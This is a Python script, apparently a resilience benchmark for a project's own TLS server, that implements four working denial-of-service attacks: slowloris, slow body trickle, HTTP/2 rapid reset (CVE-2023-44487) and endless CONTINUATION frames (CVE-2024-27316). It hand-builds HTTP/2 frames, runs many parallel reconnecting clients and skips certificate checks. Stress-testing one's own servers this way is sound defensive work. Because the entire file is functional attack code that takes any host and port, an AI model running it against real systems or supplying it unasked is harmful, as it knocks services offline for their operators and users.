#!/usr/bin/env python3
"""Hostile clients for scripts/bench/hostile.sh: one attack against a TLS server until
SIGTERM/SIGINT, reconnecting whenever the server closes a connection. Prints one JSON line
of counts when stopped.

    python3 scripts/bench/hostile-clients.py slowloris HOST PORT 1000 # trickle header bytes
    python3 scripts/bench/hostile-clients.py trickle HOST PORT 500    # trickle a request body
    python3 scripts/bench/hostile-clients.py rapid-reset HOST PORT 1  # h2: open + cancel streams
    python3 scripts/bench/hostile-clients.py continuation HOST PORT 1 # h2: endless CONTINUATION

slowloris: a request line, then one header byte a second. trickle: a POST announcing
1 MiB, then one body byte a second. rapid-reset (CVE-2023-44487): HEADERS then RST_STREAM
for stream after stream, as fast as the connection takes them. continuation
(CVE-2024-27316 and kin): one HEADERS without END_HEADERS, then CONTINUATION frames of junk
header fields that never end.
"""

import asyncio
import json
import signal
import ssl
import struct
import sys

PARALLEL = 128
counts = {"connections": 0, "closed_by_server": 0, "bytes_sent": 0, "streams_reset": 0,
          "continuation_frames": 0, "goaway": 0, "errors": 0}


CONTEXTS = {}


def context(alpn):
    # One per protocol: making a context loads the CA store, far slower than a handshake.
    if alpn not in CONTEXTS:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols([alpn])
        CONTEXTS[alpn] = ctx
    return CONTEXTS[alpn]


async def server_closed(reader):
    """Reads (and drops) until the server closes; notes a GOAWAY frame on h2."""
    while True:
        data = await reader.read(65536)
        if not data:
            return
        # A GOAWAY frame header: type 0x7 at byte 3 of some frame; counted loosely.
        if b"\x07\x00\x00\x00\x00\x00" in data:
            counts["goaway"] += 1


async def slowloris(host, port, gate, stop):
    async with gate:
        reader, writer = await asyncio.open_connection(host, port, ssl=context("http/1.1"))
    counts["connections"] += 1
    writer.write(b"GET /health HTTP/1.1\r\nhost: x\r\nx-slow: ")
    closed = asyncio.ensure_future(server_closed(reader))
    while not stop.is_set() and not closed.done():
        writer.write(b"a")
        counts["bytes_sent"] += 1
        await asyncio.wait([closed], timeout=1.0)
    writer.close()


async def trickle(host, port, gate, stop):
    async with gate:
        reader, writer = await asyncio.open_connection(host, port, ssl=context("http/1.1"))
    counts["connections"] += 1
    writer.write(b"POST /predict HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n"
                 b"content-length: 1048576\r\n\r\n{\"features\": [")
    closed = asyncio.ensure_future(server_closed(reader))
    while not stop.is_set() and not closed.done():
        writer.write(b"1")
        counts["bytes_sent"] += 1
        await asyncio.wait([closed], timeout=1.0)
    writer.close()


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack(">I", stream) + payload


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(0x4, 0, 0, b"")
# :method GET, :scheme https, :path /health (literal, not indexed), :authority x.
HEADERS = b"\x82\x87\x04\x07/health\x01\x01x"


async def h2_connection(host, port):
    reader, writer = await asyncio.open_connection(host, port, ssl=context("h2"))
    counts["connections"] += 1
    writer.write(PREFACE)
    return reader, writer


async def rapid_reset(host, port, gate, stop):
    async with gate:
        reader, writer = await h2_connection(host, port)
    closed = asyncio.ensure_future(server_closed(reader))
    stream = 1
    while not stop.is_set() and not closed.done():
        batch = bytearray()
        for _ in range(100):
            batch += frame(0x1, 0x5, stream, HEADERS)  # END_STREAM | END_HEADERS
            batch += frame(0x3, 0, stream, struct.pack(">I", 0x8))  # RST_STREAM CANCEL
            stream += 2
        if writer.is_closing():
            break
        writer.write(bytes(batch))
        try:
            await writer.drain()
        except OSError:
            break
        # drain() need not suspend: yield, so the close and the stop signal are seen.
        await asyncio.sleep(0)
        counts["streams_reset"] += 100
        if stream > 2**31 - 300:
            break
    writer.close()


async def continuation(host, port, gate, stop):
    async with gate:
        reader, writer = await h2_connection(host, port)
    closed = asyncio.ensure_future(server_closed(reader))
    writer.write(frame(0x1, 0x1, 1, HEADERS))  # END_STREAM, not END_HEADERS
    # Literal header fields without indexing, new names: 16 KiB of junk a frame.
    field = b"\x00\x05x-jnk\x7f\x80\x01" + b"v" * 255
    junk = field * (16000 // len(field))
    while not stop.is_set() and not closed.done():
        if writer.is_closing():
            break
        writer.write(frame(0x9, 0, 1, junk))
        try:
            await writer.drain()
        except OSError:
            break
        await asyncio.sleep(0)
        counts["continuation_frames"] += 1
    writer.close()


async def keep_attacking(attack, host, port, gate, stop):
    while not stop.is_set():
        try:
            await attack(host, port, gate, stop)
            if not stop.is_set():
                counts["closed_by_server"] += 1
        except (OSError, asyncio.IncompleteReadError, ssl.SSLError):
            counts["errors"] += 1
            await asyncio.sleep(0.1)


async def main():
    mode, host, port, n = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
    attack = {"slowloris": slowloris, "trickle": trickle, "rapid-reset": rapid_reset,
              "continuation": continuation}[mode]
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    loop.add_signal_handler(signal.SIGTERM, stop.set)
    loop.add_signal_handler(signal.SIGINT, stop.set)
    gate = asyncio.Semaphore(PARALLEL)
    tasks = [asyncio.ensure_future(keep_attacking(attack, host, port, gate, stop))
             for _ in range(n)]
    await stop.wait()
    await asyncio.wait(tasks, timeout=5)
    print(json.dumps({"mode": mode, "clients": n, **counts}), flush=True)


if __name__ == "__main__":
    asyncio.run(main())
